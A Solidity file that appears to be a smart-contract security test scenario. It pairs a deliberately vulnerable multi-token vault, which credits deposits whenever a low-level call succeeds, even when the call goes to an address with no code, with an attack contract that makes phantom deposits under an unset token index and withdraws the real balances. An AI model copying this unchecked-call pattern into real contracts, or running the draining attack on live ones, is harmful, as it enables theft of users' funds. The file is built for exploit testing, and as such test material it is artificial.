// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Keeps dollars of several makes in one account. A deposit asks only whether the call to the token succeeded, and a call to an
/// address without code does.
contract DollarHub {
    mapping(uint256 => address) public tokens;
    mapping(address => uint256) public credit;

    event Deposit(address indexed who, uint256 kind, uint256 amount);
    event Withdraw(address indexed who, uint256 kind, uint256 amount);

    constructor(address one, address two) {
        (tokens[1], tokens[2]) = (one, two);
    }

    function deposit(uint256 kind, uint256 amount) external {
        (bool ok,) = tokens[kind].call(abi.encodeCall(IERC20.transferFrom, (msg.sender, address(this), amount)));
        require(ok, "transfer");
        credit[msg.sender] += amount;
        emit Deposit(msg.sender, kind, amount);
    }

    function withdraw(uint256 kind, uint256 amount) external {
        credit[msg.sender] -= amount;
        IERC20(tokens[kind]).transfer(msg.sender, amount);
        emit Withdraw(msg.sender, kind, amount);
    }
}

contract PhantomDepositScene is Scene {
    Token public usd;
    Token public other = new Token("USDY", 18);
    DollarHub public hub;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(other), "USDY", 18, 1e6);
        hub = new DollarHub(address(usd), address(other));
        usd.mint(address(hub), 700_000e18);
        other.mint(address(hub), 700_000e18);
        _protect(address(hub));
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(other));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 300_000e18, address(hub));
        _arm(other, users, 300_000e18, address(hub));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = 1 + (dice >> 208 & 1);
        uint256 held = hub.credit(who);
        uint256 there = IERC20(hub.tokens(kind)).balanceOf(address(hub));
        if (dice >> 200 & 1 == 0 && held > 0 && there > held) {
            return (address(hub), 0, abi.encodeCall(DollarHub.withdraw, (kind, held)));
        }
        return (address(hub), 0, abi.encodeCall(DollarHub.deposit, (kind, _amount(dice, 100e18, 5_000e18))));
    }
}

contract PhantomDepositAttack is Attack {
    DollarHub private immutable hub;

    constructor(PhantomDepositScene scene) Attack(scene) {
        hub = scene.hub();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        for (uint256 kind = 1; kind <= 2; kind++) {
            uint256 amount = IERC20(hub.tokens(kind)).balanceOf(address(hub)) / (count - index);
            hub.deposit(7, amount);
            hub.withdraw(kind, amount);
        }
    }
}
